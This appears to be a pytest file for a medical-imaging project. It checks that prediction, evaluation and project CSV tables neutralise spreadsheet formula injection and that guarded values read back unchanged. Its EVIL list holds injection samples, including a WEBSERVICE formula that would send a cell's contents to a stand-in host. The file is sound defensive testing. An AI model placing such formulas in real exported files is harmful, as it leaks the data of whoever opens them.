"""Tables that are opened in spreadsheets hold no formula, whoever has named cases, and are read as before."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from caml_core.data.cells import guarded, unguarded
from caml_core.data.cohort import load_cohort
from caml_core.inference.batch import CaseResult
from caml_core.inference.evaluation import Evaluation, write_evaluation
from caml_core.inference.table import Table, table_for
from caml_core.metrics import COLUMNS
from caml_core.project.cases import ProjectCase
from caml_core.project.project import Project

EVIL = ['=WEBSERVICE("http://x/?"&A2)', "+1", "-2+3", "@SUM(A1)", "p;=1+1", " =1+1", "\t=1", "'=1", "\uff1d1+1"]
PLAIN = ["p-01", "a=b", "1e-05", "-3.5", "", "O'Neill", "case (2)", "'quoted'", "LA; Aorta"]


def formulas(path: Path) -> list[str]:
    """The cells that a spreadsheet computes, be it parted at commas or at semicolons."""
    text = path.read_text(encoding="utf-8")
    cells = [cell for sign in ",;" for row in csv.reader(text.splitlines(), delimiter=sign) for cell in row]
    return [cell for cell in cells if cell.strip()[:1] in {*"=+-@\uff1d"}]


@pytest.mark.parametrize("cell", EVIL)
def test_what_would_be_a_formula_is_text_and_comes_back(cell: str) -> None:
    stored = guarded(cell)
    assert (cell == "+1") == (stored == cell), "a number computes nothing"
    assert unguarded(stored) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_all_else_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell == unguarded(cell)


def test_results_of_a_folder_hold_no_formula_and_go_on(tmp_path: Path) -> None:
    path, segment = tmp_path / "predictions.csv", "=A1&"
    for cases in (("=1+1", "p2"), ("p2", "p;=3")):
        assert table_for(path, [segment]) == path, "the earlier table is its own"
        table = Table(path, [segment])
        table.write([CaseResult(case, volumes_ml={segment: 1.0}, error="@x") for case in cases])
    assert formulas(path) == []
    with path.open(encoding="utf-8", newline="") as file:
        assert [row["case"] for row in csv.DictReader(file)] == ["'=1+1", "p2", "p;'=3"]


def test_an_evaluation_holds_no_formula(tmp_path: Path) -> None:
    figures = dict.fromkeys((*COLUMNS, "prediction_ml", "reference_ml", "missed", "invented"), 0.5)
    summary = {"=HYPERLINK(A2)": {column: {"mean": 0.5, "std": 0.5} for column in figures}}
    write_evaluation(tmp_path / "table.csv", Evaluation({"=1": {"=HYPERLINK(A2)": figures}}, summary, ()))
    assert formulas(tmp_path / "table.csv") == []


def test_the_table_of_a_project_holds_no_formula_and_lists_its_cases(tmp_path: Path) -> None:
    scans = [tmp_path / name for name in ("=a.nrrd", "b.nrrd")]
    for scan in scans:
        scan.write_bytes(b"")
    project = Project(tmp_path / "project")
    for scan in scans:
        project.add(ProjectCase(scan.stem, (scan,), segments=("+A1", "@b")))
    project.write_csv(tmp_path / "table.csv")
    assert formulas(tmp_path / "table.csv") == []
    listed = load_cohort(tmp_path / "table.csv").cases
    assert [(case.id, case.images) for case in listed] == [("=a", (scans[0],)), ("b", (scans[1],))]
